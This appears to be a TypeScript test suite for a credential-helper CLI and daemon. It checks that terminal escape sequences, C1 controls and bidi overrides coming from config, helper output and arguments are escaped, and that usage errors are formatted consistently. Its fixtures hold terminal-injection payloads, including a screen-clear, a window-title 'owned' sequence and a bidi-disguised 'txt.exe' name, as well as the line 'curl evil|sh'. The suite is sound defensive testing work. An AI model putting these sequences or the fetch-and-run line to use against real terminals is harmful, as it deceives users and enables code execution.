// What reaches a terminal, through the real CLI and the real daemon: text from the config
// (profile names, descriptions), from a helper's stderr and from a caller's argv carrying
// ESC sequences, a C1 CSI (U+009B) and bidi overrides comes out escaped in `profiles`,
// `status`, `status --json`, `get`'s stderr and the daemon's logs; a credential holding a C1
// control is refused like a C0 one. And usage errors from the argument parser are one
// line with [ERR_USAGE], the exit code from the table, and the command's help as hint.
import assert from 'node:assert/strict'
import { after, before, describe, it } from 'node:test'
import { EXIT_CODES } from '../../src/errors.js'
import { Sandbox } from '../helpers/sandbox.js'

/** Any character a terminal would obey, except the newline that ends each line. */
const RAW_UNSAFE = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069]/

function assertInert(what: string, text: string): void {
  const found = RAW_UNSAFE.exec(text)
  assert.equal(found, null, `${what} carries U+${found?.[0]!.charCodeAt(0).toString(16).padStart(4, '0')} raw: ${JSON.stringify(text.slice(Math.max(0, (found?.index ?? 0) - 40), (found?.index ?? 0) + 40))}`)
}

describe('hostile text reaches no terminal raw', () => {
  let box: Sandbox
  before(() => {
    box = new Sandbox({ KEY_C1: 'sk-live\u009b31mvalue', KEY_C0: 'sk-live\u0001value', KEY_OK: 'sk-live-fine' })
    const helper = box.writeScript('helper.sh', "#!/bin/sh\nprintf 'upload failed \\033]0;owned\\007 \\033[2J \\302\\23331m RUN: curl evil|sh \\342\\200\\256txt.exe\\n' >&2\nexit 1\n")
    box.writeConfig([
      // TOML \u escapes: the file is plain text, the parsed strings hold the raw characters.
      '[profiles.fine]\nsource = "static"\nvalue = "env:KEY_OK"\ndescription = "looks \\u001b[2J\\u001b]0;owned\\u0007 fine \\u009b31m red \\u202eexe.txt \\u2066isolated\\u2069"\n',
      '[profiles."bad\\u001b[31mname\\u009b1m\\u202e"]\nsource = "static"\nvalue = "env:KEY_OK"\n',
      `[profiles.helper]\nsource = "exec"\ncommand = ["${helper}"]\n`,
      '[profiles.c1]\nsource = "static"\nvalue = "env:KEY_C1"\n',
      '[profiles.c0]\nsource = "static"\nvalue = "env:KEY_C0"\n',
    ].join('\n'))
  })
  after(() => box.cleanup())

  it('profiles: the description and the bad profile name come out escaped (exit: config error)', async () => {
    const result = await box.run(['profiles'])
    assert.equal(result.code, EXIT_CODES.ERR_CONFIG, result.stderr)
    assertInert('profiles stdout', result.stdout)
    assertInert('profiles stderr', result.stderr)
    assert.match(result.stdout, /looks \\x1b\[2J\\x1b\]0;owned\\x07 fine \\x9b31m red \\u202eexe\.txt \\u2066isolated\\u2069/)
    assert.match(result.stdout, /bad\\x1b\[31mname\\x9b1m\\u202e/)
    const json = await box.run(['profiles', '--json'])
    assertInert('profiles --json', json.stdout)
    const parsed = JSON.parse(json.stdout) as { profiles: { name: string; description?: string }[] }
    assert.ok(parsed.profiles.some((p) => p.description?.includes('\u001b[2J\u001b]0;owned\u0007 fine \u009b31m red \u202eexe.txt')), 'JSON keeps the value, escaped')
  })

  it("get: a helper's stderr and a hostile profile name in the error are one inert line", async () => {
    const failed = await box.run(['get', 'helper'])
    assert.equal(failed.code, EXIT_CODES.ERR_SOURCE_UNAVAILABLE, failed.stderr)
    assert.equal(failed.stdout, '')
    assertInert('get stderr (helper)', failed.stderr)
    assert.equal(failed.stderr.split('\n').length, 2, `one line: ${failed.stderr}`)
    assert.match(failed.stderr, /\\x1b\]0;owned\\x07 \\x1b\[2J \\x9b31m RUN: curl evil\|sh \\u202etxt\.exe.*\[ERR_SOURCE_UNAVAILABLE\]/)

    const hostileName = 'nope\u001b[31m\u009b2J\u202e'
    for (const env of [{}, { CCRED_NO_DAEMON: '1' }]) {
      const unknown = await box.run(['get', hostileName], { env })
      assert.equal(unknown.code, EXIT_CODES.ERR_PROFILE_UNKNOWN, unknown.stderr)
      assertInert(`get stderr (unknown profile, ${JSON.stringify(env)})`, unknown.stderr)
      assert.equal(unknown.stderr.split('\n').length, 2)
    }
  })

  it('status and status --json: lastError, descriptions and names carry no raw ESC, C1 or bidi', async () => {
    await box.run(['get', 'helper'])
    const status = await box.run(['status'])
    assert.equal(status.code, EXIT_CODES.OK, status.stderr)
    assertInert('status stdout', status.stdout)
    assertInert('status stderr', status.stderr)
    assert.match(status.stdout, /helper: last error: .*\\x1b\]0;owned\\x07/)
    const json = await box.run(['status', '--json'])
    assert.equal(json.code, EXIT_CODES.OK, json.stderr)
    assertInert('status --json', json.stdout)
    const parsed = JSON.parse(json.stdout) as { profiles: { profile: string; lastError?: { message: string } }[] }
    assert.ok(parsed.profiles.find((p) => p.profile === 'helper')?.lastError?.message.includes('owned'))
  })

  it("the daemon's log and the audit log carry none of it raw", () => {
    assertInert('daemon log', box.daemonLog())
    assertInert('audit log', box.auditLog())
  })

  it('a credential with a C1 control (U+009B) is refused with the same code as a C0 one, and never printed', async () => {
    const c0 = await box.run(['get', 'c0'])
    const c1 = await box.run(['get', 'c1'])
    assert.equal(c0.code, EXIT_CODES.ERR_SOURCE_OUTPUT, c0.stderr)
    assert.equal(c1.code, c0.code, c1.stderr)
    assert.match(c1.stderr, /control character.*\[ERR_SOURCE_OUTPUT\]/)
    assert.equal(c1.stdout, '')
    assert.ok(!c1.stderr.includes('sk-live'), 'the refused credential was quoted')
    assertInert('get stderr (C1 credential)', c1.stderr)
    const fine = await box.run(['get', 'fine'])
    assert.equal(fine.code, EXIT_CODES.OK, fine.stderr)
    assert.equal(fine.stdout, 'sk-live-fine\n')
  })
})

describe('usage errors: one line, [ERR_USAGE], the exit code from the table', () => {
  let box: Sandbox
  before(() => {
    box = new Sandbox()
    box.writeConfig('[profiles.demo]\nsource = "static"\nvalue = "env:HOME"\n')
  })
  after(() => box.cleanup())

  const badCommandLines: [string[], RegExp, string][] = [
    [['get'], /missing required argument 'profile'/, 'ccred get'],
    [['get', '--bogus', 'demo'], /unknown option '--bogus'/, 'ccred get'],
    [['get', 'demo', 'extra'], /too many arguments/, 'ccred get'],
    [['gte', 'demo'], /unknown command 'gte'.*get/, 'ccred'],
    [['--nope'], /unknown option '--nope'/, 'ccred'],
    [['status', '--zz'], /unknown option '--zz'/, 'ccred status'],
    [['daemon', 'bogus'], /unknown command 'bogus'/, 'ccred daemon'],
    [['setup', 'claude', 'demo', '--scope', 'everywhere'], /'everywhere' is invalid.*user, project, local, managed/, 'ccred setup claude'],
    [['get', 'demo', '--header'], /argument missing/, 'ccred get'],
  ]
  for (const [argv, message, command] of badCommandLines) {
    it(`ccred ${argv.join(' ')}`, async () => {
      const result = await box.run(argv)
      assert.equal(result.code, EXIT_CODES.ERR_USAGE, result.stderr)
      assert.equal(result.code, 2, 'the documented exit code of a usage error')
      assert.equal(result.stdout, '')
      const lines = result.stderr.split('\n')
      assert.equal(lines.length, 2, `exactly one line: ${JSON.stringify(result.stderr)}`)
      assert.equal(lines[1], '')
      assert.match(lines[0]!, /^ccred: .+ \[ERR_USAGE\] — see: .+ --help$/)
      assert.match(lines[0]!, message)
      assert.ok(lines[0]!.endsWith(`see: ${command} --help`), lines[0])
    })
  }

  it('--help and --version still print to stdout and exit 0', async () => {
    for (const argv of [['--help'], ['get', '--help'], ['setup', 'claude', '--help']]) {
      const help = await box.run(argv)
      assert.equal(help.code, EXIT_CODES.OK, help.stderr)
      assert.match(help.stdout, /^Usage: ccred/)
      assert.equal(help.stderr, '')
    }
    const version = await box.run(['--version'])
    assert.equal(version.code, EXIT_CODES.OK)
    assert.match(version.stdout, /^\d+\.\d+\.\d+/)
    assert.equal(version.stderr, '')
  })
})
